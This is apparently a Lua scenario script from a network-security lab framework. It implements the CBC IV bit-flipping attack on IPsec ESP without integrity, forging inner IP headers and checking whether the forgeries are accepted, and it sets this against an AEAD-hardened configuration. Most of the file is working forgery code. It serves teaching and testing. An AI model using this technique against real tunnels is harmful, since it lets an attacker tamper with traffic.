-- Encryption without integrity. In CBC mode a bit turned over in the IV turns over the same bit of the first block, and nothing else; and the first
-- block of a tunnelled packet is its IP header, of which everything can be guessed. So the adversary changes the inner TTL of a ping that it cannot
-- read, and repairs the checksum. Only a forgery whose checksum is right is answered: each answer says that a guess was right.
attack = {
  id = "A26", name = "cbc-flip",
  about = "Turns over bits of the IV, and so changes the inner IP header of an ESP packet that it cannot read",
  position = "on-path",
  needs = "ESP with CBC and no integrity; to guess the inner header",
  source = "Paterson and Yau, Cryptography in Theory and Practice: The Case of Encryption in IPsec (2006); RFC 4303, 3.2.2; catalogue A26",
  shows = {
    vulnerable = "aes256-noauth: forged headers are opened and believed, sequence numbers too, and the host behind the gateway answers",
    hardened = "an AEAD covers IV and header: every forgery is refused as E-ESP-ICV, and nothing comes back",
  },
  scenarios = { vulnerable = "cbc-flip", hardened = "cbc-flip-aead" },
}

-- Parameters: src, dst (of the inner packet), length = 84, ttl = 63, becomes = 40, ids = 24 (how many Identifications to guess)
local inner, ids, becomes = {}, 24, 40
local template, forged, answers, listening = nil, 0, 0, false

function on_start(params)
  inner = { src = params.src or "10.1.0.10", dst = params.dst or "10.2.0.10", protocol = 1, length = tonumber(params.length or "84"),
    ttl = tonumber(params.ttl or "63") }
  ids, becomes = tonumber(params.ids or ids), tonumber(params.becomes or becomes)
end

-- The first sixteen octets of the inner header as they should be, for an Identification and a TTL.
local function header(id, ttl)
  local octets = string.pack(">I1I1I2I2I2I1I1I2", 0x45, 0, inner.length, id, 0, ttl, inner.protocol, 0) .. inet.address(inner.src) .. inet.address(inner.dst)
  return bytes.patch(octets, 11, string.pack(">I2", inet.checksum(octets))):sub(1, 16)
end

local function xor(a, b)
  local out = ""
  for i = 1, #a do out = out .. string.char(a:byte(i) ~ b:byte(i)) end
  return out
end

on({ protocol = "ESP" }, function(p)
  if not template then
    template = p
    say("kept one ESP packet of " .. p.size .. " octets; its IV is at octets 9 to 24, and what it holds nobody told")
    timer.after("500ms", "forge")
  elseif listening and p.from == template.to then
    answers = answers + 1
  end
end)

local function forge()
  mark("mallory turns over bits in the IV: the inner TTL " .. inner.ttl .. " becomes " .. becomes .. ", and the checksum is repaired for each guess of the Identification.")
  local sequence, done = esp.header(template.payload).sequence, {}
  for id = 0, ids - 1 do
    local mask = xor(header(id, inner.ttl), header(id, becomes))
    if not done[mask] then          -- most guesses ask for the same bits
      done[mask] = true
      forged = forged + 1
      local octets = bytes.patch(template.payload, 9, xor(template.payload:sub(9, 24), mask))
      octets = bytes.patch(octets, 5, string.pack(">I4", sequence + 20 + id))    -- nothing covers the sequence number either
      inject{ src = template.src, dst = template.dst, protocol = "ESP", to = template.to, payload = octets, after = (id + 1) .. "ms",
        note = "TTL " .. becomes .. " and a checksum to go with it, for Identification " .. id .. "; under a sequence number of its own" }
    end
  end
  listening = true
  timer.after("300ms", "verdict")
end

function on_timer(label)
  if label == "forge" then return forge() end
  listening = false
  if answers > 0 then
    learn("the inside", "it was a ping of " .. inner.length .. " octets from " .. inner.src .. " to " .. inner.dst .. ", as guessed, and says something else now",
      answers .. " answers came back through the tunnel to " .. forged .. " forgeries")
  end
  achieved("change what is inside, unseen", answers > 0, answers > 0
    and "a header was changed without a key; the gateway opened it, and the host behind it answered" or forged .. " forgeries, and no answer to any of them")
end

function on_finish()
  if not template then achieved("change what is inside, unseen", false, "no ESP packet came by") end
end
